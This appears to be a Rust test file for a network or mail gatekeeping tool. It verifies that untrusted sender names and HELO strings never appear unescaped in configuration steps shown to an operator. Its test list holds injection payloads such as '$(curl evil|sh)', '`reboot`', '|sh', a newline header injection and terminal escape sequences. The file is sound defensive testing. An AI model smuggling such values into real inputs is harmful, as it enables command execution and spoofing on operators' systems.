//! What strangers wrote is in nothing that an operator is offered to copy.

use super::applied::WORLDS;
use super::*;

/// What strangers may call themselves, their senders and their recipients.
const HOSTILE: [&str; 12] = [
    "$(curl evil|sh)",
    "`reboot`",
    "a'b\"c",
    "x\nroot: evil",
    "\u{1b}]0;owned\u{7}",
    "-rf",
    "a;b",
    "a b",
    "j\u{fc}rgen\u{202e}",
    "ROOT",
    "a,b",
    "|sh",
];

#[test]
fn what_strangers_wrote_is_in_no_line_to_copy() {
    let mut seen = 0;
    for world in WORLDS {
        let settings = settings(world);
        for name in HOSTILE {
            let at_home = format!("{name}@here.example");
            let elsewhere = format!("{name}@there.example");
            for detail in [name, &at_home, &elsewhere] {
                for (kind, word, _, _) in KINDS {
                    let mut device = device(V4, "tcp", None);
                    device.user = Some(name.into());
                    device.helo = Some(name.into());
                    for way in ways(&settings, &device, *kind, detail) {
                        for step in &way {
                            seen += usize::from(step.in_words().contains("\\x"));
                            harmless(step, name, word);
                        }
                    }
                }
            }
        }
    }
    assert!(seen > 100, "what strangers wrote is told in {seen} steps");
}

/// The name stands in no value, and in words only in quotes and escaped.
fn harmless(step: &Step, name: &str, kind: &str) {
    let words = step.in_words();
    match step {
        Step::Set(setting) | Step::Add(setting) | Step::Take(setting) => {
            assert!(!setting.value.to_string().contains(name), "{kind}: {words}");
        }
        Step::Do(_) => {}
    }
    if name != "ROOT" && name != "-rf" {
        assert!(!words.contains(name), "{kind}: {words:?}");
    }
    assert!(
        words.bytes().all(|octet| (0x20..0x7f).contains(&octet)),
        "{kind}: {words:?}"
    );
    // Each part of a sentence that has a command of ours has nothing in quotes.
    for part in words.split(';').filter(|part| part.contains("gatepost ")) {
        assert!(
            !part.contains('"') && !part.contains(name),
            "{kind}: {words}"
        );
    }
    assert!(
        !words.contains(&format!("line \"{name}")),
        "{kind}: {words}"
    );
}
